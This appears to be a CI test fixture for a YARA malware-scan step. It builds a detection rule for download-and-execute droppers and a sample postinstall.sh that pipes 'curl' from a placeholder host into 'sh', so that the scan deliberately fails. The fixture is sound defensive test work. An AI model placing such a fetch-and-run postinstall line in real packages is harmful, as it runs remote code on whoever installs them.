# class: security-scan-failure
# tool: yara
# ecosystem: ci
# step: Malware scan
# needs: apt:yara
# proof: malware scan: 1 match
mkdir dist
printf 'rule dropper_marker\n{\n    strings:\n        $a = "curl -s http://" nocase\n        $b = "| sh -"\n    condition:\n        all of them\n}\n' >house.yar
printf '#!/bin/sh\ncurl -s http://cdn.example.org/i | sh -\n' >dist/postinstall.sh
printf 'readme\n' >dist/README
#%% step
yara -r -s house.yar dist | tee matches
test ! -s matches || { echo "malware scan: $(grep -c '^dropper' matches) match"; exit 1; }
